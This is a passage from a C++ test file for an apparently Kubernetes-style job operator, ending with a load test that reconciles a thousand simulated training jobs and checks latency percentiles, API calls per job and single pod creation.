  ASSERT_TRUE(both.Until([&] { return both.work->report().controller.failures >= 2; }));
  EXPECT_EQ(both.work->report().controller.created, 0u);
  both.server.Forbid("");
  EXPECT_TRUE(both.UntilBoth([&] { return both.status().IsTrue("CleanedUp"); }));
}

// --- many

TEST(Controller, AThousandJobsAreReconciledSoon) {
  const char* given = std::getenv("LONGHAUL_JOBS");
  const size_t count = given != nullptr ? std::stoul(given) : 1000 / LONGHAUL_SLOWNESS;
  Home home;
  for (size_t i = 0; i < count; ++i) home.Submit(Job("job-" + std::to_string(i)));
  const auto begun = Clock::now();
  home.Start();
  // Kubelets and controllers beside it: its times are its own.
  std::atomic<size_t> done{0};
  std::atomic<bool> over{false};
  std::thread machines([&] {
    std::set<std::string> ready, ended;
    while (!over.load()) {
      home.server.RunControllers();
      const auto phases = home.server.Phases("trainingjobs");
      for (const std::string& key : home.server.Workers()) {
        if (ready.insert(key).second) home.server.MakeReady(key);
        const auto job = phases.find(key.substr(0, key.find("-node-")));
        if (job != phases.end() && job->second == "Running" && ended.insert(key).second)
          home.server.EndPod(key, 0);
      }
      done.store(static_cast<size_t>(
          std::ranges::count(phases, "Succeeded", [](const auto& one) { return one.second; })));
      std::this_thread::sleep_for(milliseconds(100));
    }
  });
  while (done.load() < count && Clock::now() - begun < seconds(given != nullptr ? 60 : 250))
    home.work->Turn(milliseconds(50));
  const double wall = std::chrono::duration<double>(Clock::now() - begun).count();
  for (int i = 0; i < 10; ++i) home.work->Turn(milliseconds(50));
  over.store(true);
  machines.join();
  const OperatorReport report = home.work->report();
  ASSERT_EQ(done.load(), count) << home.server.requests() << " requests, " << report.controller.reconciles
                                << " reconciles, " << report.not_ready;
  const auto jobs = static_cast<double>(count);
  const auto ms = [](Duration time) { return std::chrono::duration<double>(time).count() * 1e3; };
  std::printf(
      "%zu jobs in %.1f s: reconcile p50 %.2f ms, p99 %.2f ms; with its writes p50 %.1f ms, p99 %.1f ms; "
      "%.1f API calls a job (%.1f reconciles, %.1f conflicts, %llu retries)\n",
      count, wall, ms(report.controller.reconcile_p50), ms(report.controller.reconcile_p99),
      ms(report.controller.pass_p50), ms(report.controller.pass_p99),
      static_cast<double>(home.server.requests()) / jobs,
      static_cast<double>(report.controller.reconciles) / jobs,
      static_cast<double>(report.controller.conflicts) / jobs,
      static_cast<unsigned long long>(report.queue.retries));
  for (const auto& [pod, times] : home.server.made()) EXPECT_EQ(times, 1) << pod;
  EXPECT_LT(ms(report.controller.reconcile_p99), 50.0 * LONGHAUL_SLOWNESS);
  EXPECT_LT(static_cast<double>(home.server.requests()) / jobs, 60);
  EXPECT_EQ(home.server.reviews(), 1);
}

}  // namespace
}  // namespace longhaul::kube
